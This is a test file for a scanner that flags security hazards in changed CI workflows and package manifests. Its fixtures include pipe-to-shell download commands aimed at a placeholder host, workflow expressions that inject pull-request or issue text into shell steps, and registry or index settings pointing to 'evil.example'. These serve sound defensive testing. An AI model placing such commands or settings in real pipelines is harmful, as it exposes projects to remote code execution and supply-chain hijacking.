import { describe, expect, test } from 'vitest';
import { ok } from '../../src/primitives.ts';
import { aFile, aSpec, type Case, findingOf, rulesOf, sha } from './case.ts';

const path = '.github/workflows/ci.yml';
const changed = (after: string | null, before: string | null = null, name = path): Case => ({
  files: [aFile(name)],
  specs: [ok(aSpec({ scopeIn: ['.github', name] }))],
  change: { inspected: [{ path: name, before, after }] },
});
const hazards = (facts: Case) =>
  rulesOf(facts).filter((rule) => /^(?:workflow|supply)\./.test(rule));
const workflow = (steps: string, head = 'on: push') =>
  `${head}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n${steps}\n`;
const runs = (command: string, head?: string) =>
  workflow(`      - run: |\n${command.replace(/^/gm, '          ')}`, head);
const expression = (inner: string) => `\${{ ${inner} }}`;

const harmless = workflow(
  `      - uses: actions/checkout@${sha('v7')}\n      - run: npm ci && npm test`,
);

test('a workflow with pinned actions, no rights and hosted machines adds nothing', () => {
  expect(hazards(changed(harmless))).toEqual([]);
});

describe('only what the change adds counts', () => {
  const risky = workflow('      - uses: actions/checkout@v4');
  test('the same hazard before and after is nothing new', () => {
    expect(hazards(changed(`${risky}# edited`, risky))).toEqual([]);
  });
  test('the same hazard twice is one more', () => {
    const twice = workflow('      - uses: actions/checkout@v4\n      - uses: actions/checkout@v4');
    expect(hazards(changed(twice, risky))).toEqual(['workflow.unpinned-action']);
  });
  test('a text before that could not be read held nothing', () => {
    expect(hazards(changed(risky, 'on: [push'))).toEqual(['workflow.unpinned-action']);
  });
  test('a text that was another kind of file before, or stands copied, held nothing', () => {
    const moved = (status: 'renamed' | 'copied', pathBefore: string): Case => ({
      ...changed(risky, risky),
      files: [aFile(path, { status, pathBefore })],
    });
    const unpinned = ['workflow.unpinned-action'];
    expect(hazards(moved('renamed', 'fixtures/ci.yml'))).toEqual(unpinned);
    expect(hazards(moved('copied', '.github/workflows/old.yml'))).toEqual(unpinned);
    expect(hazards(moved('renamed', '.github/workflows/old.yml'))).toEqual([]);
  });
  test('a checkout that was there becomes one of the head by a new trigger', () => {
    const ref = workflow(
      `      - uses: actions/checkout@${sha('v7')}\n        with: {ref: "${expression('github.head_ref')}"}`,
    );
    const found = hazards(changed(ref.replace('on: push', 'on: pull_request_target'), ref));
    expect(found).toEqual(['workflow.head-checkout', 'workflow.privileged-trigger']);
  });
});

describe('references of actions', () => {
  test.for([
    [`actions/checkout@${sha('x')}`, true],
    [`org/repo/.github/workflows/w.yml@${sha('x')}`, true],
    ['./.github/actions/mine', true],
    [`docker://alpine@sha256:${'a'.repeat(64)}`, true],
    ['actions/checkout@v4', false],
    ['actions/checkout@main', false],
    [`actions/checkout@${sha('x').slice(0, 39)}`, false],
    [`actions/checkout@${sha('x').toUpperCase()}`, false],
    ['actions/checkout', false],
    ['docker://alpine:3', false],
  ] as const)('%s is pinned: %s', ([uses, pinned]) => {
    expect(hazards(changed(workflow(`      - uses: ${uses}`)))).toEqual(
      pinned ? [] : ['workflow.unpinned-action'],
    );
  });
});

describe('images of jobs', () => {
  const digest = `sha256:${'a'.repeat(64)}`;
  const job = (rest: string) =>
    `on: push\npermissions: {}\njobs: {a: {runs-on: ubuntu-24.04, ${rest}}}`;
  test.for([
    ['container: alpine', false],
    ['container: {image: "alpine:latest"}', false],
    ['container: {image: " docker://alpine"}', false],
    [`container: "${expression('matrix.image')}"`, false],
    ['services: {db: {image: "postgres:17"}}', false],
    [`services: {db: {image: "postgres:17@${digest}"}}`, true],
    [`container: "ghcr.io/acme/build@${digest}"`, true],
    [`container: {image: "alpine@${digest}"}`, true],
    ['container: {image: ""}', true],
  ] as const)('%s is pinned: %s', ([rest, pinned]) => {
    expect(hazards(changed(job(rest)))).toEqual(pinned ? [] : ['workflow.unpinned-action']);
  });
});

test.for([['true: pull_request_target'], ['ON: pull_request_target'], ['name: nothing']])(
  'a workflow that names what starts it under no plain "on" cannot be read: %s',
  ([head]) => {
    expect(hazards(changed(workflow('      - run: npm test', head)))).toEqual([
      'workflow.unreadable',
    ]);
  },
);

describe('rights', () => {
  const rights = (permissions: string) =>
    `on: push\npermissions: ${permissions}\njobs: {a: {runs-on: ubuntu-24.04}}`;
  test.for([
    ['write-all'],
    ['{contents: write}'],
    ['{id-token: write}'],
    ['{contents: admin}'],
    ['null'],
  ])('permissions: %s', ([permissions]) => {
    expect(hazards(changed(rights(permissions ?? '')))).toEqual(['workflow.permissions']);
  });
  test.for([['read-all'], ['{contents: read, issues: none}'], ['{}']])(
    'permissions: %s are none to ask about',
    ([permissions]) => {
      expect(hazards(changed(rights(permissions ?? '')))).toEqual([]);
    },
  );
  test('taking the word on rights away gives the default ones', () => {
    const before = rights('{contents: read}');
    const after = 'on: push\njobs: {a: {runs-on: ubuntu-24.04}}';
    expect(hazards(changed(after, before))).toEqual(['workflow.permissions']);
  });
  test('rights of one job count as those of all', () => {
    const after =
      'on: push\npermissions: {}\njobs: {a: {runs-on: ubuntu-24.04, permissions: {packages: write}}}';
    expect(hazards(changed(after))).toEqual(['workflow.permissions']);
  });
});

describe('text of strangers in commands', () => {
  test.for([
    [`      - shell: "bash -c '${expression('github.head_ref')}' {0}"\n        run: npm test`],
    [
      `      - run: npm test\n    defaults: {run: {shell: "sh -c '${expression('github.event.issue.title')}' {0}"}}`,
    ],
  ])('in the shell that runs them: %j', ([steps]) => {
    expect(hazards(changed(workflow(steps ?? '')))).toEqual(['workflow.untrusted-expression']);
  });
  test.for([
    ['github.event.pull_request.title'],
    ['github.event["issue"]["body"]'],
    ["github [ 'head_ref' ]"],
    ['github.head_ref'],
    ['github.ref_name'],
    ['toJSON(github)'],
    ['github.event.commits[0].message'],
    ['format("{0}", GitHub.Event.Comment.Body)'],
    ['inputs.name'],
    ['env.TITLE'],
    ['steps.x.outputs.y'],
  ])('%s', ([inner]) => {
    expect(hazards(changed(runs(`echo ${expression(inner ?? '')}`)))).toEqual([
      'workflow.untrusted-expression',
    ]);
  });
  test.for([
    ['github.sha'],
    ['github.event.pull_request.number'],
    ['github.run_id'],
    ['matrix.node'],
    ['secrets.TOKEN'],
  ])('%s is none', ([inner]) => {
    expect(hazards(changed(runs(`echo ${expression(inner ?? '')}`)))).toEqual([]);
  });
  test('an expression that is never closed is read to its end', () => {
    expect(hazards(changed(runs('echo ${'.concat('{ github.head_ref'))))).toEqual([
      'workflow.untrusted-expression',
    ]);
  });
  test('the script input of an action is a command too', () => {
    const script = workflow(
      `      - uses: actions/github-script@${sha('x')}\n        with:\n          script: console.log("${expression('github.event.issue.title')}")`,
    );
    expect(hazards(changed(script))).toEqual(['workflow.untrusted-expression']);
  });
});

describe('scripts straight from the network', () => {
  test.for([
    ['curl -sSf https://x.example/i | sh'],
    ['wget -qO- https://x.example/i | sudo -E bash -s -- -y'],
    ['curl https://x.example/i |\n  python3'],
    ['curl https://x.example/i \\\n  | bash'],
    ['bash <(curl -s https://x.example/i)'],
    ['sh -c "$(curl -fsSL https://x.example/i)"'],
    ['eval "$(curl https://x.example/i)"'],
    ['iex (iwr https://x.example/i)'],
    ['curl https://x.example/i | /usr/bin/env bash'],
    [`curl https://x.example/i ${' '.repeat(5_000)}| sh`],
    [`curl https://x.example/${'i'.repeat(5_000)} | sh`],
  ])('%s', ([command]) => {
    expect(hazards(changed(runs(command ?? '')))).toEqual(['workflow.pipe-to-shell']);
  });
  test.for([
    ['curl -o x.tgz https://x.example/x.tgz'],
    ['cat list | sort'],
    ['npm run fetch | tee log'],
  ])('%s is none', ([command]) => {
    expect(hazards(changed(runs(command ?? '')))).toEqual([]);
  });
});

describe('a workflow that nobody can read', () => {
  test.for([
    ['its text is not known', changed(null)],
    ['it is no document', changed('on: [push')],
    ['it is a list', changed('- on: push')],
    ['it was not inspected', { ...changed(harmless), change: { inspected: [] } }],
    [
      'it is a link',
      { ...changed(harmless), files: [aFile(path, { kind: 'symlink', linkTarget: 'x.yml' })] },
    ],
  ] as const)('%s', ([, facts]) => {
    expect(hazards(facts)).toEqual(['workflow.unreadable']);
  });
  test('is no matter once it is deleted', () => {
    expect(hazards({ ...changed(null), files: [aFile(path, { status: 'deleted' })] })).toEqual([]);
  });
});

test('a hazard is named with its line', () => {
  const found = findingOf(
    changed(workflow('      - uses: actions/checkout@v4')),
    'workflow.unpinned-action',
  );
  expect(found).toMatchObject({
    subject: 'actions/checkout@v4',
    places: [{ file: path, line: 7 }],
  });
});

test('an action of the repository is read like a workflow', () => {
  const action = 'runs:\n  using: composite\n  steps:\n    - uses: evil/x@main\n';
  expect(hazards(changed(action, null, 'tools/action.yml'))).toEqual(['workflow.unpinned-action']);
});

describe('supply chain', () => {
  const manifest = (after: object, before: object = {}) =>
    changed(JSON.stringify(after), JSON.stringify(before), 'package.json');

  test.for([
    ['git+https://x.example/y.git'],
    ['https://x.example/y.tgz'],
    ['github:evil/x'],
    ['evil/x#main'],
    ['git@x.example:y.git'],
    ['file:../y'],
    ['../y'],
    ['link:y'],
    ['ssh://x.example/y'],
  ])('a dependency on %s comes from no registry', ([version]) => {
    expect(hazards(manifest({ dependencies: { y: version } }))).toEqual([
      'supply.remote-dependency',
    ]);
    expect(hazards(manifest({ overrides: { a: { y: version } } }))).toEqual([
      'supply.remote-dependency',
    ]);
  });
  test.for([['^1.2.3'], ['1.x || >=2'], ['npm:other@1'], ['workspace:*'], ['latest']])(
    'a dependency on %s does',
    ([version]) => {
      expect(hazards(manifest({ devDependencies: { y: version } }))).toEqual([]);
    },
  );
  test('a script that runs on install counts when it is new or another', () => {
    const scripts = (prepare: string) => ({ scripts: { prepare, test: 'vitest' } });
    expect(hazards(manifest(scripts('husky'), scripts('husky')))).toEqual([]);
    expect(hazards(manifest(scripts('node evil.js'), scripts('husky')))).toEqual([
      'supply.lifecycle-script',
    ]);
    expect(hazards(manifest({ scripts: { test: 'evil' } }))).toEqual([]);
  });
  test.for([
    ['evil.js -diff'],
    ['*.lock binary'],
    ['* filter=lfs'],
    ['src/** linguist-generated=true'],
    ['*.ts merge=ours'],
    ['secret export-ignore'],
    ['*.js diff=minified'],
    ['[attr]hidden -diff'],
    ['*.c working-tree-encoding=UTF-16'],
  ])('the attribute line %s', ([line]) => {
    expect(hazards(changed(`${line}\n`, '# nothing\n', '.gitattributes'))).toEqual([
      'supply.git-attributes',
    ]);
  });
  test.for([
    ['@scope:registry=https://evil.example'],
    ['//evil.example/:_authToken=x'],
    ['script-shell=./x'],
  ])('the npm setting %s', ([line]) => {
    expect(hazards(changed(`save-exact=true\n${line}\n`, 'save-exact=true\n', '.npmrc'))).toEqual([
      'supply.registry',
    ]);
  });
});

describe('images of actions', () => {
  test.for([
    ['docker://alpine:3', ['workflow.unpinned-action']],
    ['Docker://alpine:3', ['workflow.unpinned-action']],
    [`docker://alpine@sha256:${'a'.repeat(64)}`, []],
    ['Dockerfile', []],
  ] as const)('%s', ([image, found]) => {
    const action = `name: x\nruns:\n  using: docker\n  image: ${image}\n`;
    expect(hazards(changed(action, null, 'tools/action.yml'))).toEqual(found);
  });
});

describe('what installs and where from', () => {
  const remote = ['supply.remote-dependency'];
  const registry = ['supply.registry'];
  test.for([
    [{ overrides: { a: 'npm:evil@1' } }, remote],
    [{ overrides: { a: { b: 'git+https://x/y' } } }, remote],
    [{ resolutions: { '**/a': 'https://x/a.tgz' } }, remote],
    [{ pnpm: { overrides: { a: 'file:./a' } } }, remote],
    [{ pnpm: { overrides: { 'a>b': ' npm:evil@1' } } }, remote],
    [{ overrides: { a: '1.2.3' }, resolutions: { b: '^2' }, pnpm: { overrides: 1 } }, []],
  ] as const)('the manifest %j', ([manifest, found]) => {
    expect(hazards(changed(JSON.stringify(manifest), '{}', 'package.json'))).toEqual(found);
  });
  test.for([
    ['.pnpmfile.cjs', ';require("child_process")', registry],
    ['.pnpmfile.cjs', '#x in this;', registry],
    ['.pnpmfile.mjs', ';evil()', registry],
    ['.npmrc', '; a comment', []],
    ['.yarnrc.yml', '# a comment', []],
    ['.yarnrc.yml', ';yarnPath: x', registry],
    ['.gitattributes', ';x -diff', ['supply.git-attributes']],
    ['native/binding.gyp', '{"targets": []}', ['supply.lifecycle-script']],
    ['requirements.txt', '--index-url https://evil.example', registry],
    ['requirements-dev.txt', '--extra-index https://evil.example', registry],
    ['requirements.txt', '-i https://evil.example', registry],
    ['requirements.txt', '--ind\\', registry],
    ['requirements.txt', 'a @ git+https://evil.example/a', remote],
    ['requirements.txt', '-e git+ssh://evil.example/a', remote],
    ['requirements.txt', 'a @ https://evil.example/a.whl', remote],
    ['requirements.txt', 'a==1 \\', []],
    ['requirements.txt', '# https://example.org', []],
    ['requirements.txt', '-r base.txt', []],
  ] as const)('in %s the line %s', ([name, line, found]) => {
    expect(hazards(changed(`${line}\n`, '', name))).toEqual(found);
  });
});

describe('triggers that run a stranger with rights', () => {
  test.each([
    'pull_request_target',
    'workflow_run',
    'issue_comment',
    'issues',
    'discussion',
    'discussion_comment',
    'gollum',
  ])('%s', (event) => {
    for (const on of [`on: ${event}`, `on: [push, ${event}]`, `on: { ${event}: {} }`]) {
      const found = findingOf(
        changed(workflow('      - run: npm test', on)),
        'workflow.privileged-trigger',
      );
      expect([found.subject, found.places[0]?.line]).toEqual([event, 1]);
    }
  });
  test.each(['push', 'pull_request', 'schedule', 'merge_group'])('%s is none', (event) => {
    expect(hazards(changed(workflow('      - run: npm test', `on: [${event}]`)))).toEqual([]);
  });
});

describe('places of hazards', () => {
  test('a step is named by its own line and column', () => {
    const found = findingOf(
      changed(workflow('      - run: npm ci\n      - uses: a/b@main')),
      'workflow.unpinned-action',
    );
    expect(found).toMatchObject({
      subject: 'a/b@main',
      places: [{ file: path, line: 8, column: 15 }],
      detail: { count: 1 },
    });
  });
  test('a checkout of the head is named where it says so', () => {
    const step = `      - uses: actions/checkout@${sha('v7')}\n        with:\n          ref: main\n          repository: a/head.ref`;
    const found = findingOf(
      changed(workflow(step, 'on: pull_request_target')),
      'workflow.head-checkout',
    );
    expect(found.places.map(({ line }) => line)).toEqual([10]);
  });
  test('a script of a manifest and a dependency from elsewhere are named by theirs', () => {
    const text =
      '{\n  "scripts": {\n    "postinstall": "x"\n  },\n  "dependencies": {\n    "a": "git+ssh://b"\n  }\n}\n';
    const facts = changed(text, null, 'package.json');
    expect(findingOf(facts, 'supply.lifecycle-script')).toMatchObject({
      subject: 'postinstall: x',
      places: [{ line: 3 }],
    });
    expect(findingOf(facts, 'supply.remote-dependency')).toMatchObject({
      subject: 'dependencies.a: git+ssh://b',
      places: [{ line: 6 }],
    });
  });
  test('a manifest that nobody can read is named where it breaks', () => {
    const twice = changed('{\n  "a": 1,\n  "a": 2\n}', null, 'package.json');
    expect(findingOf(twice, 'supply.unreadable').places[0]?.line).toBe(3);
    expect(
      findingOf(changed('[]', null, 'package.json'), 'supply.unreadable').places[0],
    ).toMatchObject({ line: null, column: null });
    expect(findingOf(changed('- x', null), 'workflow.unreadable').places[0]).toMatchObject({
      line: null,
      column: null,
    });
    expect(findingOf(changed('on: [', null), 'workflow.unreadable').places[0]?.line).toBe(1);
  });
  test('lines of attributes, modules and registries are named by number', () => {
    for (const [name, text, rule] of [
      ['.gitattributes', '# ok\n*.md eol-x\n*.ts -diff\n', 'supply.git-attributes'],
      ['.gitmodules', '[submodule "x"]\n; note\n\turl = https://x\n', 'supply.submodule-url'],
      ['.npmrc', '\n# note\nregistry=https://x\n', 'supply.registry'],
    ] as const) {
      const found = findingOf(changed(text, null, name), rule);
      expect([name, found.placesTotal, found.places[0]?.line]).toEqual([name, 1, 3]);
    }
  });
  test('expressions are told one by one, up to the one that never ends', () => {
    const found = findingOf(
      changed(
        runs(
          `echo ${expression('github.sha')} ${expression('github.head_ref')} \${{ github.event.issue.title`,
        ),
      ),
      'workflow.untrusted-expression',
    );
    expect(found).toMatchObject({
      subject: 'github.event.issue.title',
      placesTotal: 2,
      detail: { count: 2 },
    });
  });
});
